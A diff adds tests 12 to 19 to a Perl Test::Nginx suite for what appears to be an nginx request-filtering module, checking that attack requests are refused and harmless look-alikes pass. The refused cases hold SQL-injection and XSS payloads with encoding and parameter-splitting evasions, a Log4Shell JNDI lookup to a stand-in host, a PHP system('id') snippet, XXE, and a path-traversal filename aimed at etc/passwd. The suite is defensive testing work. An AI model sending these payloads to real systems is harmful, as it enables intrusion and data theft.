@@ -4,6 +4,7 @@
 
 use Test::Nginx::Socket 'no_plan';
 use ApiTest;
+use IO::Compress::Gzip ();
 
 # "--- refused" and "--- passed": requests separated by lines of two dots, each
 # a line "METHOD PATH", header lines, an empty line, a body as it is.  A status
@@ -53,6 +54,24 @@ END
     $block->set_value(error_code => [map { $_->[0] } @all]);
     $block->set_value(no_error_log => '[alert]');
 });
+
+# Multipart by the parameters of its type; a part by those of its header.
+
+sub mp {
+    my ($type, $text) = @_;
+    return "POST /\nContent-Type: multipart/form-data; $type\n\n$text";
+}
+
+sub part {
+    my ($how, $text) = @_;
+    return "--b\r\nContent-Disposition: form-data; $how\r\n\r\n$text\r\n--b--\r\n";
+}
+
+sub packed {
+    my ($in) = @_;
+    IO::Compress::Gzip::gzip(\$in, \my $out, Time => 1);
+    return $out;
+}
 
 no_root_location();
 run_tests();
@@ -369,3 +388,166 @@ GET /graphql?query=%7Buser(id:%225%22)%7Bname%7D%7D
 CORE::join("..\n", map { "POST /\nContent-Type: application/json\n\n{\"q\":\"$_\"}\n" }
     '{{' x 20000, '<a ' x 20000, 'a@' x 20000, '(a)(b' x 10000, '. ' x 20000,
     'query{' x 10000)
+
+
+
+=== TEST 12: JSON in SQL, by every database
+--- refused eval
+CORE::join("..\n", map { "POST /\nContent-Type: application/json\n\n{\"q\":\"$_\"}\n" }
+    q(1 or json_extract('{\"a\":1}','$.a')=1),
+    q(' or json_keys('{\"a\":1}') is not null-- -),
+    q(' or json_depth('{}') > 0-- -),
+    q(' or data #> '{a,b}' = 'x'--),
+    q(' or '{\"a\":1}'::jsonb <@ '{\"a\":1}'::jsonb--),
+    q(1 union select * from openjson('[1]')),
+    q(' union select name from users for json auto--),
+    q(' or data ? 'a'--))
+--- passed eval
+CORE::join("..\n", map { "POST /\nContent-Type: application/json\n\n{\"q\":\"$_\"}\n" }
+    q({\"a\":1}), q(json extract of 'it'), q(a -> b ->> c), q($.items[0].a),
+    q(for json, or for xml?))
+
+
+
+=== TEST 13: types that stand oddly
+--- refused eval
+my $bad = '{"q":"1\' or \'1\'=\'1"}';
+my $part = "--b\r\nContent-Type: application/json\r\n\r\n$bad\r\n--b--\r\n";
+CORE::join("..\n", map { "$_\n" }
+    "400 POST /\nContent-Type: text/plain\nContent-Type: application/json\n\n{}",
+    "POST /\nContent-Type: text/plain\nContent-Type: application/json\n\n$bad",
+    "POST /\nContent-Type:   application/json\n\n$bad",
+    "POST /\nContent-Type: application/json;\n\n$bad",
+    "POST /\nContent-Type: application/json/x\n\n$bad",
+    "POST /\nContent-Type: json\n\n$bad",
+    "POST /\nContent-Type: text/json\n\n$bad",
+    "POST /\nContent-Type: application/x-json+x\n\n$bad",
+    "POST /\nContent-Type: application/yaml\n\n$bad",
+    "POST /\nContent-Type: multipart/mixed; boundary=b\n\n$part",
+    "POST /\nContent-Type: multipart/related; boundary=b\n\n$part",
+    "POST /\nContent-Type: multipart/form-data; boundary=b\n\nq=1%27+or+%271%27=%271",
+    "POST /\nContent-Type: application/x-www-form-urlencoded\n\n--b\r\n"
+        . "Content-Disposition: form-data; name=\"q\"\r\n\r\n1' or '1'='1\r\n--b--\r\n",
+    "POST /\nContent-Type: application/json\n\nq=1%27+or+%271%27=%271")
+--- passed eval
+my $good = '{"q":"O\'Brien"}';
+CORE::join("..\n", map { "$_\n" }
+    "POST /\nContent-Type:   application/json\n\n$good",
+    "POST /\nContent-Type: application/json;\n\n$good",
+    "POST /\nContent-Type: text/json\n\n$good",
+    "POST /\nContent-Type: application/yaml\n\n$good",
+    "POST /\nContent-Type: multipart/mixed; boundary=b\n\n"
+        . "--b\r\nContent-Type: application/json\r\n\r\n$good\r\n--b--\r\n")
+
+
+
+=== TEST 14: parameters of multipart, and what is in the headers of a part
+--- refused eval
+my $q = "1' or '1'='1";
+CORE::join("..\n",
+    "400 " . main::mp('boundary="b"', main::part('name="q"', 'x')),
+    "400 " . main::mp('boundary=b ', main::part('name="q"', 'x')) =~ s/b \n/b ;x\n/r,
+    "400 " . main::mp('boundary*0=b', main::part('name="q"', 'x')),
+    "400 " . main::mp('boundary*=utf-8\'\'b', main::part('name="q"', 'x')),
+    "400 " . main::mp('boundary=a; boundary=b', main::part('name="q"', 'x')),
+    "400 " . main::mp('boundary=b', main::part("name=\"q\0\"", 'x')),
+    "400 " . main::mp('boundary=b', main::part("name='q'", 'x')),
+    main::mp('boundary=b', main::part('name="x"; filename*=utf-8\'\'..%2f..%2fetc%2fpasswd; filename="a"', 'x')) =~ s/^/400 /r,
+    main::mp('boundary=b', main::part('name="q"; filename=""', $q)),
+    main::mp('boundary=b', main::part("name=\"q\"\r\nContent-Type: text/plain; charset=utf-8", $q)),
+    main::mp('boundary=b', main::part("name=\"q\"\r\nContent-Type: application/json", '{"q":"' . $q . '"}')),
+    main::mp('boundary=b', main::part('name="q"', "x\r\n--c\r\n$q")) =~ s/^//r)
+--- passed eval
+CORE::join("..\n",
+    main::mp('boundary=b', main::part('name="q"; filename=""', "O'Brien")),
+    main::mp('boundary=b', main::part("name=\"q\"\r\nContent-Type: text/plain; charset=utf-8", "O'Brien")),
+    main::mp('boundary=b', main::part("name=\"q\"\r\nContent-Type: application/json", '{"q":"O\'Brien"}')),
+    main::mp('boundary=b', main::part('name="q"', "x\r\n-- c\r\nit's")))
+
+
+
+=== TEST 15: JSON: a mark in front, another encoding, numbers, depth
+--- refused eval
+my $h = "POST /\nContent-Type: application/json\n\n";
+CORE::join("..\n", map { "$_\n" }
+    "400 $h\xef\xbb\xbf{\"a\":1}",
+    "400 $h" . CORE::join('', map { "$_\0" } split //, '{"a":1}'),
+    "400 $h" . '{"a":01}',
+    "400 $h" . '{"a":1}]',
+    "400 $h" . '{"a":' . '[' x 600 . '1' . ']' x 600 . '}',
+    "400 $h" . "{\"a\":\"x\xc0\xa7\"}",
+    "400 $h" . "{\"a\":\"x\ty\"}",
+    $h . '{"a":[[[{"b":"' . "1' or '1'='1" . '"}]]]}',
+    $h . '{"a":"x","\u0061b":"' . "1' or '1'='1" . '"}')
+--- passed eval
+my $h = "POST /\nContent-Type: application/json\n\n";
+CORE::join("..\n", map { "$_\n" }
+    $h . '{"a":123456789012345678901234567890,"b":-1.5e300}',
+    $h . '{"a":' . '[' x 60 . '1' . ']' x 60 . '}',
+    $h . '{"a":"x\ty"}')
+
+
+
+=== TEST 16: XML in other encodings
+--- refused eval
+my $h = "POST /\nContent-Type: application/xml\n\n";
+my $utf16 = CORE::join '', map { "\0$_" } split //, "<?xml version=\"1.0\"?><a>1' or '1'='1</a>";
+CORE::join("..\n", map { "$_\n" }
+    "$h\xfe\xff$utf16",
+    "$h<a>1' or<b/> '1'='1</a>",
+    "$h<a><b>1&#x27; or &#x27;1&#x27;=&#x27;1</b></a>",
+    "$h<a><?php system('id') ?></a>",
+    "400 $h<a>" . '<b>' x 200 . '</b>' x 200 . '</a>',
+    "$h<!DOCTYPE a SYSTEM \"http://x.example/a.dtd\"><a/>",
+    "$h<!DOCTYPE a [<!ENTITY % p \"<!ENTITY q 'x'>\"> %p;]><a/>")
+--- passed eval
+my $h = "POST /\nContent-Type: application/xml\n\n";
+CORE::join("..\n", map { "$_\n" }
+    "$h\xfe\xff" . CORE::join('', map { "\0$_" } split //, '<?xml version="1.0"?><a>x</a>'),
+    "$h<a>it's<b/> one</a>",
+    "$h<a>" . '<b>' x 20 . '</b>' x 20 . '</a>',
+    "$h<?xml version=\"1.0\" encoding=\"iso-8859-1\"?><a>caf\xe9</a>")
+
+
+
+=== TEST 17: an attack in the pieces of two parameters
+--- refused eval
+CORE::join("..\n", map { "$_\n" }
+    "GET /?q=1%20union/*&q=*/select%201,2",
+    "GET /?a=1%20union/*&b=*/select%201,2%20from%20users",
+    "GET /?q=%3Cscript&q=%3Ealert(1)%3C/script%3E",
+    "GET /?q=1'/*&q=*/or/*&q=*/'1'='1",
+    "POST /?q=1'/*\nContent-Type: application/x-www-form-urlencoded\n\nq=*/or'1'='1")
+--- passed eval
+CORE::join("..\n", map { "$_\n" }
+    "GET /?q=union&q=select", "GET /?a=script&b=alert", "GET /?q=1&q=2&q=3")
+
+
+
+=== TEST 18: escapes of the languages within
+--- refused eval
+CORE::join("..\n", map { "POST /\nContent-Type: application/json\n\n{\"a\":\"$_\"}\n" }
+    '<a href=\"jav&#x61;script:alert(1)\">', '<a href=\"java\nscript:alert(1)\">',
+    '<p style=\"width:e\\\\78pression(alert(1))\">', '<svg><script>&#97;lert(1)</script>',
+    '\u003cscript\u003ealert(1)\u003c/script\u003e', '\\\\u003cscript>alert(1)</script>',
+    '%3Cscript%3Ealert(1)%3C/script%3E', '%u003cscript%u003ealert(1)',
+    '${${env:X:-j}ndi:ldap://x.example/}', '$%7Bjndi:ldap://x.example/a}')
+--- passed eval
+CORE::join("..\n", map { "POST /\nContent-Type: application/json\n\n{\"a\":\"$_\"}\n" }
+    'a &lt; b &amp; c', 'width: 10px', '\u003c 3', '100%25', 'env:X and :-)')
+
+
+
+=== TEST 19: bodies that are packed
+--- config
+    api_body_decode gzip max=64k ratio=100;
+--- refused eval
+my $h = "POST /\nContent-Type: application/json\nContent-Encoding";
+CORE::join("..\n",
+    "$h: gzip\n\n" . main::packed(q({"q":"1' or '1'='1"})) . "\n",
+    "$h: GZIP\n\n" . main::packed(q({"q":"1' or '1'='1"})) . "\n",
+    "415 $h: deflate\n\nx\n", "415 $h: br\n\nx\n", "415 $h: gzip, gzip\n\nx\n",
+    "415 $h: gzip\nContent-Encoding: identity\n\nx\n")
+--- passed eval
+my $h = "POST /\nContent-Type: application/json\nContent-Encoding";
+"$h: gzip\n\n" . main::packed(q({"q":"O'Brien"}))
